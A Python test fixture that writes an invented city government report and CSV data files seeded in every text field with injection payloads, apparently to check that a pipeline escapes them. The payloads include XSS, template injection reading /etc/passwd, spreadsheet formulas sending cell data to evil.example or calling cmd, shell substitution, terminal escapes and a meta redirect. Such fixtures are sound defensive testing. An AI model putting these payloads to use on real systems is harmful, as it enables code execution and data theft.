"""A report of our own making that attacks whoever reads it: the words of an invented city, and what a page may hide among them."""

from __future__ import annotations

from html import escape
from pathlib import Path

from invented import REPORT, context_row, figure_row, write_rows

from xclib.data import schema

#: Each must arrive as text, wherever it arrives. ``evil()`` would be seen by the browser's test.
SCRIPT = "<script>evil()</script>"
HANDLER = '<img src="https://evil.example/x.png" onerror="evil()">'
QUOTE = "\"'><svg onload=evil()>"
LINK = "[点此](javascript:evil())"
TEMPLATE = "{{ 7*7 }}{% include '/etc/passwd' %}${evil()}"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"财政")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
MATH = "$\\href{javascript:evil()}{x}$"
SHELL = "$(touch pwned);`touch pwned`"
ALL = (SCRIPT, HANDLER, QUOTE, LINK, TEMPLATE, FORMULA, DDE, MATH, SHELL)
#: What no file of ours may hold and no terminal may get: clear the screen, set the title, turn the text.
ESCAPES = "\x1b[2J\x1b]0;owned\x07"
BIDI = "\u202e%5.8\u202c\u2066"

TITLE = f"青岚市2032年政府工作报告{SCRIPT}"
LINES = (
    TITLE,
    "一、2031年工作回顾",
    f"过去一年，全市{HANDLER}地区生产总值完成3380.5亿元，{BIDI}同比增长5.2%。{TEMPLATE}",
    f"{FORMULA}一般公共预算收入完成205.6亿元，增长3.7%，{ESCAPES}其中税收收入{DDE}完成150.2亿元。",
    f"城镇新增就业1.3万人。{LINK}{MATH}{SHELL}",
    f"二、2032年工作安排{QUOTE}",
    "地区生产总值增长5%左右，城镇调查失业率控制在5.5%以内。",
)


def as_html() -> bytes:
    """The report as a page: the attacks as text, and some as markup of its own."""
    body = "".join(f"<p onclick='evil()'>{escape(line)}</p>" for line in LINES)
    head = (
        f"<title>{escape(TITLE)}</title><script>evil()</script><meta http-equiv=refresh content='0;url=https://evil.example'>"
    )
    return f"<!DOCTYPE html><html><head>{head}</head><body onload='evil()'>{body}</body></html>".encode()


def as_text() -> bytes:
    """The report as a text file."""
    return "\n".join(LINES).encode()


def poison(root: Path) -> None:
    """Write a data folder whose register, figures, labels, plan and context attack in every column that holds words."""
    home = root / "raw" / REPORT["report_id"]
    words = {"title_zh": TITLE, "title_en": f"Report{QUOTE}{TEMPLATE}"}
    url = 'https://qinglan.example/"onmouseover="evil()'
    write_rows(root / "raw" / "reports.csv", "reports", [REPORT | words | {"source_url": url}])
    told = [
        ("地区生产总值", "5.2", "%", "growth"),
        ("地区生产总值", "3380.5亿", "元", "level"),
        ("一般公共预算收入", "205.6亿", "元", "level"),
    ]
    told += [(f"{FORMULA}", "150.2亿", "元", "level"), *((attack, "3.7", "%", "growth") for attack in ALL)]
    rows = [
        figure_row(
            line=str(n), label=label, number=number, unit=unit, measure=measure, prefix=ALL[n % len(ALL)][:10], suffix="=1+1"
        )
        for n, (label, number, unit, measure) in enumerate(told, 3)
    ]
    rows += [figure_row(line="40", part="plan", number="5", bound="~", bound_word="左右", status="target", period="2031")]
    rows += [figure_row(line="41", number="7", unit=SCRIPT, measure="level", label="学校", scope=HANDLER)]
    write_rows(home / "figures.csv", "figures", rows)
    labels = [
        {"scope": "", "label": label, "line": "", "label_zh": f"{label}{QUOTE}", "label_en": f"{SCRIPT}{label}"}
        for label in dict.fromkeys(row["label"] for row in rows[:7])
    ]
    write_rows(home / "labels.csv", "labels", labels)
    plan = dict.fromkeys(schema.columns("raw", "plan"), "") | {
        "number": "1",
        "name_zh": HANDLER,
        "name_en": FORMULA,
        "unit": SCRIPT,
    }
    write_rows(home / "plan.csv", "plan", [plan | {"plan": DDE, "dimension_zh": TEMPLATE, "nature": "binding", "line": "50"}])
    claim = {"line": "3", "claim_zh": f"{SCRIPT}因素", "claim_en": f"{LINK} cause"}
    write_rows(home / "claims.csv", "claims", [claim])
    facts = [
        context_row(
            period=str(year),
            value=f"{300 + year - 2025}000000000",
            as_printed=f"{300 + year - 2025}0亿元",
            source_title=SCRIPT,
            source_url=url,
        )
        for year in range(2025, 2031)
    ]
    write_rows(root / "raw" / "context.csv", "context", facts)
